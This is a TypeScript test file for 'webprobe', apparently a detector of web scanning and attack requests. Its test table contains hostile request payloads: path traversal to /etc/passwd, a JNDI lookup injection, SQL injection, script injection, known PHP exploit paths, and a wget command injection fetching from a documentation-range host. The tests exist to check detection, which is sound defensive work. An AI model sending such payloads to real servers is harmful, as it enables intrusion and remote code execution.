import { describe, expect, it } from 'vitest';
import { createAnalysis } from '../analysis.ts';
import { eventOf } from '../event-fixture.ts';
import { plainWeb } from '../web-text.ts';
import { webprobe } from './webprobe.ts';
import { attackIn } from './webprobe-patterns.ts';

const start = 1_750_000_000_000;
const http = { protocol: 'http', dst: { ip: '198.51.100.1', port: 80 } };
type Headers = [string, string][];
const tool: Headers = [
  ['Host', '198.51.100.1'],
  ['User-Agent', 'curl/8.5.0'],
];
const browser: Headers = [
  ['Host', '198.51.100.1'],
  ['User-Agent', 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0'],
  ['Accept-Language', 'en'],
  ['Accept-Encoding', 'gzip, deflate'],
];
const ask = (target: string, at: number, headers = tool, head = {}) =>
  eventOf(
    { kind: 'request', method: 'GET', target, status: 404, headers },
    { time: start + at * 1_000, session: `s${at}`, ...http, ...head },
  );
const paths = ['/.env', '/.git/config', '/cgi-bin/luci/;stok=', '/index.php?x=../../etc/passwd'];

describe('webprobe', () => {
  it('tells one attack softly and three of a tool loudly', () => {
    const analysis = createAnalysis([webprobe]);
    const signals = paths.flatMap((path, n) => analysis.push(ask(path, n)));
    expect(signals.map(({ confidence, evidence }) => [confidence, evidence])).toEqual([
      [0.3, 'E4'],
      [0.9, 'E4'],
    ]);
  });

  it('takes no number of a browser’s requests for its owner’s doing', () => {
    const analysis = createAnalysis([webprobe]);
    const signals = Array.from({ length: 300 }, (_, n) => ask(`${paths[n % 4]}?${n}`, n, browser)).flatMap(
      (event) => analysis.push(event),
    );
    expect(signals.length).toBeGreaterThan(1);
    for (const { evidence, confidence } of signals) {
      expect(evidence).toBe('E2');
      expect(confidence).toBeLessThanOrEqual(0.5);
    }
  });

  it('is not blinded by browser-like requests among a tool’s', () => {
    const analysis = createAnalysis([webprobe]);
    const signals = [0, 1, 2, 3, 4, 5].flatMap((n) =>
      analysis.push(ask(`${paths[n % 4]}?${n}`, n, n % 2 ? browser : tool)),
    );
    expect(signals.at(-1)).toMatchObject({ evidence: 'E4', confidence: 0.9 });
  });

  it('asks three different ones', () => {
    const analysis = createAnalysis([webprobe]);
    const signals = Array.from({ length: 50 }, (_, n) => ask('/.env', n)).flatMap((event) =>
      analysis.push(event),
    );
    expect(signals.map(({ confidence }) => confidence)).toEqual([0.3]);
  });

  it('reads access logs of real servers', () => {
    const analysis = createAnalysis([webprobe]);
    const access = (target: string, at: number) =>
      eventOf(
        { kind: 'access', method: 'GET', target, status: 404, size: 0, agent: 'python-requests/2.31' },
        { time: start + at, ...http, decoy: false },
      );
    expect(paths.flatMap((path, n) => analysis.push(access(path, n)))).toMatchObject([
      { confidence: 0.3 },
      { confidence: 0.9, evidence: 'E3' },
    ]);
  });

  it('leaves crawlers and readers alone', () => {
    const analysis = createAnalysis([webprobe]);
    for (const path of [
      '/',
      '/robots.txt',
      '/sitemap.xml',
      '/favicon.ico',
      '/wp-login.php',
      '/blog/2025/how-to-select-a-union',
      '/search?q=drop+table+lamp',
      '/a/../b',
      '/?id=5&or=1',
      '/.well-known/security.txt',
      '/assets/app.js?v=1.2.3',
      '/login?next=/admin',
      '/blog/tags/shell?page=1',
    ])
      for (let n = 0; n < 3; n++) expect(analysis.push(ask(path, n)), path).toEqual([]);
  });
});

it.each([
  ['/%252E%252E%252F%252e%252e%252fetc', 'path traversal'],
  ['/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd', 'exploit path'],
  ['/?x=%24{jndi:ldap://192.0.2.1/a}', 'lookup injection'],
  ['/?id=1%27%20OR%20%271%27=%271', 'SQL injection'],
  ['/?id=1+UNION+ALL+SELECT+1,2', 'SQL injection'],
  ['/?q=%3Cscript%3Ealert(1)', 'script injection'],
  ['/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', 'exploit path'],
  ['/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array', 'PHP injection'],
  ['/?a=;wget%24{IFS}http://192.0.2.1/x', 'command injection'],
  ['/SETTINGS.CFG', 'secrets'],
])('knows %s as %s', (target, attack) => {
  expect(attackIn(plainWeb(target), '')).toBe(attack);
});

it('takes little time on any target', () => {
  const started = process.hrtime.bigint();
  for (const one of [
    '/',
    '../',
    '%2e',
    ' or ',
    "'",
    '<',
    '${',
    '; ',
    'a',
    '1',
    '/*',
    '{{',
    'wp-content/plugins/',
    '|cat ',
    '(',
    ')',
  ])
    for (const head of ['', '/cgi-bin/', "'", 'union ', '<img ', '<!doctype ', 'runtime '])
      attackIn(plainWeb(head + one.repeat(8_192 / one.length)), one.repeat(8_192 / one.length));
  expect(Number(process.hrtime.bigint() - started) / 1e6).toBeLessThan(4_000);
});
